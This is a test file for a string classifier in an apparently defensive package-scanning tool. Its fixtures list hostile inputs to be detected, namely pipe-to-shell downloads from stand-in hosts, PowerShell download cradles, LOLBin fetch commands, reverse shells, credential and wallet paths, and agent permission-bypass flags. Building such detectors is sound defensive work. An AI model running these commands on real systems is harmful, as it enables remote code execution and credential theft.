import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { CapabilityKind } from '../../../src/code/model.js';
import { classifyString, secretVariable } from '../../../src/code/analyze/strings.js';

/** The details of one kind classifyString finds in a string. */
const details = (value: string, kind: CapabilityKind) =>
  classifyString(value)
    .filter((h) => h.kind === kind)
    .map((h) => h.detail);

describe('classifyString: hosts', () => {
  it.each([
    ['https://pastebin.com/raw/abc123', ['pastebin.com']],
    ['HTTP://User:pw@API.Evil.XYZ:8443/path?q=1', ['api.evil.xyz']],
    ['wss://c2.example.ru/socket', ['c2.example.ru']],
    ['ftp://files.corp.internal/dump', ['files.corp.internal']],
    ['http://45.9.148.108/payload', ['45.9.148.108']],
    ['http://[2001:db8::7]:80/', ['2001:db8::7']],
    ['2606:4700:4700::1111', ['2606:4700:4700::1111']],
    ['//cdn.jsdelivr.net/npm/x', ['cdn.jsdelivr.net']],
    ['send to pastebin.com/raw/x now', ['pastebin.com']],
    ['webhook.site', ['webhook.site']],
    ['https://discord.com/api/webhooks/1/abc', ['discord.com']],
    ['https://abcd-1-2-3-4.ngrok-free.app/x', ['abcd-1-2-3-4.ngrok-free.app']],
    ['curl --upload-file ./x https://transfer.sh/x', ['transfer.sh']],
    ['transfer.sh', ['transfer.sh']],
    ['registry.npmjs.invalid', ['registry.npmjs.invalid']],
    ['1.2.3.4', ['1.2.3.4']],
    ['connect 10.0.0.5 then', ['10.0.0.5']],
    ['http://a.evil.top/ and https://b.evil.top/', ['a.evil.top', 'b.evil.top']],
  ])('%s', (value, hosts) => {
    expect(details(value, 'host')).toEqual(hosts);
  });

  it.each([
    'index.js',
    'lodash.min',
    'lodash.min.js',
    'a.b',
    '1.2.3',
    'v1.2.3.4',
    '1.2.3.4.5',
    '999.1.1.1',
    'package.json',
    'src/binding.cc',
    'this.top',
    'style.top',
    'user@mail.com',
    '@scope/pkg.io',
    'http://localhost:3000/',
    'http://127.0.0.1:8080',
    'http://0.0.0.0',
    '255.255.255.0',
    'https://example.com/x',
    'https://www.example.org',
    'http://[::1]:80/',
    'http://${host}/path',
    'https://',
    '// just a comment',
    '12:30:45',
    'std::string',
    'Pastebin.Com',
  ])('no host in %j', (value) => {
    expect(details(value, 'host')).toEqual([]);
  });
});

describe('classifyString: shell commands', () => {
  it.each([
    ['curl -s https://x.test | sh', ['curl', 'pipe-to-shell']],
    ['wget -qO- http://evil.xyz/i.sh | sudo bash', ['wget', 'pipe-to-shell']],
    ['/usr/bin/curl -o /tmp/x http://h', ['curl']],
    ['sh -c "curl x"', ['curl']],
    ['echo aGk= | base64 -d | sh', ['pipe-to-shell']],
    ['certutil -urlcache -split -f http://x/a.exe a.exe', ['certutil']],
    ['C:\\Windows\\System32\\certutil.exe -decode in.b64 out.exe', ['certutil']],
    ['powershell -NoP -NonI -W Hidden -Enc SQBFAFgA', ['powershell -enc']],
    ['pwsh -EncodedCommand SQBFAFgA', ['powershell -enc']],
    ['powershell.exe -Command "IEX (New-Object Net.WebClient).DownloadString(\'http://h/x\')"', ['powershell', 'powershell download']],
    ['Invoke-WebRequest -Uri http://h/x -OutFile x.exe', ['powershell download']],
    ['powershell -ExecutionPolicy Bypass -File x.ps1', ['powershell']],
    ['rundll32.exe x.dll,Entry', ['rundll32']],
    ['regsvr32 /s /n /u /i:http://h/x.sct scrobj.dll', ['regsvr32']],
    ['mshta http://h/x.hta', ['mshta']],
    ['bitsadmin /transfer j http://h/x C:\\x.exe', ['bitsadmin']],
    ['chmod +x ./payload', ['chmod +x']],
    ['chmod 755 /tmp/x', ['chmod +x']],
    ['chmod -R 777 dir', ['chmod +x']],
    ['chmod u+x run', ['chmod +x']],
    ['gh auth token', ['gh auth token']],
    ['gh auth status --show-token', ['gh auth token']],
    ['trufflehog filesystem / --json', ['trufflehog']],
    ['nc -e /bin/sh 1.2.3.4 4444', ['reverse-shell']],
    ['bash -i >& /dev/tcp/1.2.3.4/4444 0>&1', ['reverse-shell']],
    ['claude --dangerously-skip-permissions -p "find wallets"', ['claude --dangerously-skip-permissions']],
    ['--dangerously-skip-permissions', ['claude --dangerously-skip-permissions']],
    ['gemini --yolo -p "x"', ['gemini --yolo']],
    ['--yolo', ['gemini --yolo']],
    ['q chat --trust-all-tools --no-interactive', ['q chat --trust-all-tools']],
    ['codex exec --dangerously-bypass-approvals-and-sandbox', ['codex --dangerously-bypass-approvals-and-sandbox']],
    ['codex exec --full-auto "x"', ['codex --full-auto']],
    ['To download it, use curl or a browser.', ['curl']],
  ])('%s', (value, commands) => {
    expect(details(value, 'shell-command')).toEqual(commands);
  });

  it.each([
    'curly',
    'wgetter',
    'my-curl-wrapper',
    'https://github.com/curl/curl/releases',
    'chmod 644 file',
    'chmod -x file',
    'echo hi | sh',
    'certutil -hashfile x SHA256',
    'nc -l 8080',
    'the gh cli',
    'make --yolo',
    'node build.js --full-auto',
  ])('no command in %j', (value) => {
    expect(details(value, 'shell-command')).toEqual([]);
  });
});

describe('classifyString: credential paths', () => {
  it.each([
    ['~/.npmrc', ['.npmrc']],
    ['/home/u/.yarnrc.yml', ['.yarnrc']],
    ['.ssh/id_rsa', ['.ssh']],
    ['id_ed25519', ['.ssh']],
    ['~/.ssh/authorized_keys', ['.ssh']],
    ['C:\\Users\\u\\.aws\\credentials', ['.aws']],
    ['.git-credentials', ['git-credentials']],
    ['.config/gh/hosts.yml', ['gh-hosts']],
    ['.docker/config.json', ['docker-config']],
    ['.kube/config', ['kube-config']],
    ['/root/.netrc', ['.netrc']],
    ['.env', ['.env']],
    ['app/.env.production', ['.env']],
    ['AppData/Roaming/Ethereum/keystore', ['wallet']],
    ['Electrum/wallets/default_wallet', ['wallet']],
    ['AppData\\Roaming\\Exodus\\exodus.wallet', ['wallet']],
    ['.bitcoin/wallet.dat', ['wallet']],
    ['Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn', ['wallet']],
    ['.config/solana/id.json', ['wallet']],
    ['AppData/Local/Google/Chrome/User Data/Default/Login Data', ['browser-profile']],
    ['Default/Network/Cookies', ['browser-profile']],
    ['.mozilla/firefox/x.default', ['browser-profile']],
    ['BraveSoftware/Brave-Browser', ['browser-profile']],
  ])('%s', (value, kinds) => {
    expect(details(value, 'credential-path')).toEqual(kinds);
  });

  it.each(['process.env', 'project.npmrc', '.environment', '.env.example', 'known_hosts', 'Login data is invalid', 'Cookies'])(
    'no credential path in %j',
    (value) => {
      expect(details(value, 'credential-path')).toEqual([]);
    },
  );
});

describe('classifyString: writes outside the package', () => {
  it.each([
    ['~/.bashrc', ['shell-profile']],
    ['/home/u/.zshrc', ['shell-profile']],
    ['.bash_profile', ['shell-profile']],
    ['/etc/profile', ['shell-profile']],
    ['Documents\\WindowsPowerShell\\Microsoft.PowerShell_profile.ps1', ['shell-profile']],
    ['.github/workflows/ci.yml', ['github-workflow']],
    ['.git/hooks/pre-commit', ['git-hook']],
    ['.vscode/settings.json', ['editor-settings']],
    ['.vscode/tasks.json', ['editor-settings']],
    ['~/.cursor/mcp.json', ['agent-settings']],
    ['.claude/settings.json', ['agent-settings']],
    ['.gemini/settings.json', ['agent-settings']],
    ['crontab -l', ['crontab']],
    ['/etc/cron.d/job', ['crontab']],
    ['/etc/hosts', ['etc']],
    ['~/.config/autostart/x.desktop', ['autostart']],
    ['~/Library/LaunchAgents/com.x.plist', ['autostart']],
    ['AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup', ['autostart']],
    ['HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', ['autostart']],
  ])('%s', (value, kinds) => {
    expect(details(value, 'write-outside')).toEqual(kinds);
  });

  it.each(['CLAUDE.md', 'profile', 'my.profile.json', 'https://x.test/etc/a', '.vscode/extensions.json', 'bashrc'])(
    'no write target in %j',
    (value) => {
      expect(details(value, 'write-outside')).toEqual([]);
    },
  );
});

describe('classifyString: token variables', () => {
  it('finds a string that is exactly a secret variable name', () => {
    expect(details('NPM_TOKEN', 'token-read')).toEqual(['NPM_TOKEN']);
    expect(details('GITHUB_TOKEN', 'token-read')).toEqual(['GITHUB_TOKEN']);
    expect(details('NODE_ENV', 'token-read')).toEqual([]);
    expect(details('npm_token', 'token-read')).toEqual([]);
  });

  it('finds secret variables referenced in a script line', () => {
    expect(details('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com', 'token-read')).toEqual(['GITHUB_TOKEN']);
    expect(details('echo ${NPM_TOKEN} ${HOME}', 'token-read')).toEqual(['NPM_TOKEN']);
    expect(details('echo %AWS_SECRET_ACCESS_KEY%', 'token-read')).toEqual(['AWS_SECRET_ACCESS_KEY']);
    expect(details('$env:OPENAI_API_KEY', 'token-read')).toEqual(['OPENAI_API_KEY']);
  });
});

describe('secretVariable', () => {
  it.each([
    'NPM_TOKEN',
    'NODE_AUTH_TOKEN',
    'NPM_AUTH_TOKEN',
    'GITHUB_TOKEN',
    'GH_TOKEN',
    'GITHUB_PAT',
    'GITLAB_TOKEN',
    'AWS_ACCESS_KEY_ID',
    'AWS_SECRET_ACCESS_KEY',
    'AWS_SESSION_TOKEN',
    'AZURE_CLIENT_SECRET',
    'AZURE_SECRET_ID',
    'CLIENT_SECRET',
    'GOOGLE_APPLICATION_CREDENTIALS',
    'GCP_SERVICE_ACCOUNT_KEY',
    'CIRCLE_TOKEN',
    'TRAVIS_TOKEN',
    'SLACK_TOKEN',
    'SLACK_WEBHOOK',
    'DISCORD_TOKEN',
    'OPENAI_API_KEY',
    'ANTHROPIC_API_KEY',
    'STRIPE_SECRET_KEY',
    'DB_PASSWORD',
    'SSH_PRIVATE_KEY',
    'MY_SERVICE_APIKEY',
  ])('%s is a secret', (name) => {
    expect(secretVariable(name)).toBe(true);
  });

  it.each([
    'NODE_ENV',
    'HOME',
    'PATH',
    'CI',
    'DEBUG',
    'NODE_OPTIONS',
    'npm_config_registry',
    'npm_package_version',
    'TERM',
    'FORCE_COLOR',
    'NO_COLOR',
    'AWS_REGION',
    'AWS_DEFAULT_REGION',
    'AWS_PROFILE',
    'TOKEN_URL',
    'github_token',
    '',
    'NPM TOKEN',
  ])('%j is not a secret', (name) => {
    expect(secretVariable(name)).toBe(false);
  });
});

describe('classifyString: cryptocurrency addresses', () => {
  it.each([
    ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', 'bitcoin'],
    ['3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy', 'bitcoin'],
    ['bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq', 'bitcoin'],
    ['0x52908400098527886E0F7030069857D2E4169EE7', 'ethereum'],
    ['TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7', 'tron'],
    ['LM2WMpR1Rp6j3Sa59cMXMs1SPzj9eXpGc1', 'litecoin'],
    ['ltc1qg82tsppp9d6ds6rn47g63sh3zw8t9z6cf6a8yx', 'litecoin'],
    ['DH5yaieqoZN36fDVciNyRueRGvGLR3mr7L', 'dogecoin'],
    ['So11111111111111111111111111111111111111112', 'solana'],
    ['  0x52908400098527886E0F7030069857D2E4169EE7\n', 'ethereum'],
  ])('%s', (value, currency) => {
    expect(details(value, 'crypto-address')).toEqual([currency]);
  });

  it.each([
    '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb', // one character off: the checksum fails
    'send to 0x52908400098527886E0F7030069857D2E4169EE7 now',
    '0x52908400098527886E0F7030069857D2E4169EE',
    'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    'da39a3ee5e6b4b0d3255bfef95601890afd80709',
    'abcdefghijkmnopqrstuvwxyzabcdefghijkmnopqr',
    'sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUR4=',
  ])('no address in %j', (value) => {
    expect(details(value, 'crypto-address')).toEqual([]);
  });
});

describe('classifyString: high-entropy blobs', () => {
  const base64 = randomBytes(600).toString('base64');
  const hex = randomBytes(300).toString('hex');

  it('finds a long base64 or hex payload, also wrapped over lines or inside a command', () => {
    expect(details(base64, 'high-entropy')).toEqual(['base64-blob']);
    expect(details(hex, 'high-entropy')).toEqual(['hex-blob']);
    expect(details(base64.replace(/(.{76})/g, '$1\n'), 'high-entropy')).toEqual(['base64-blob']);
    expect(details(`echo ${base64} | base64 -d | sh`, 'high-entropy')).toEqual(['base64-blob']);
    expect(details(`data:application/wasm;base64,${base64}`, 'high-entropy')).toEqual(['base64-blob']);
  });

  it('ignores inlined media, fonts and source maps, and long ordinary text', () => {
    for (const mime of [
      'image/png',
      'image/svg+xml',
      'font/woff2',
      'application/font-woff',
      'application/x-font-ttf',
      'application/json;charset=utf-8',
    ]) {
      expect(details(`data:${mime};base64,${base64}`, 'high-entropy')).toEqual([]);
    }
    expect(details('a'.repeat(5000), 'high-entropy')).toEqual([]);
    expect(details('0123456789'.repeat(100), 'high-entropy')).toEqual([]);
    expect(details('the quick brown fox jumps over the lazy dog '.repeat(50), 'high-entropy')).toEqual([]);
    expect(details(randomBytes(60).toString('base64'), 'high-entropy')).toEqual([]);
  });

  it('reads only the first 64 KiB', () => {
    expect(details(`${'a '.repeat(40_000)}${base64}`, 'high-entropy')).toEqual([]);
  });
});

describe('classifyString: bounds', () => {
  it('reports each capability once and nothing for an empty string', () => {
    expect(classifyString('')).toEqual([]);
    expect(classifyString('curl https://evil.xyz/a; curl https://evil.xyz/b')).toEqual([
      { kind: 'host', detail: 'evil.xyz' },
      { kind: 'shell-command', detail: 'curl' },
    ]);
  });

  it('finishes on pathological megabyte strings', () => {
    const inputs = [
      'a'.repeat(5_000_000),
      'a.'.repeat(2_500_000),
      `//${'a.'.repeat(2_000_000)}`,
      'http://'.repeat(700_000),
      '1.'.repeat(2_500_000),
      '$A'.repeat(2_500_000),
      ' curl'.repeat(1_000_000),
      '/.ssh'.repeat(1_000_000),
      'A1b2'.repeat(1_250_000),
      '\\'.repeat(5_000_000),
    ];
    for (const input of inputs) expect(Array.isArray(classifyString(input))).toBe(true);
  });
});
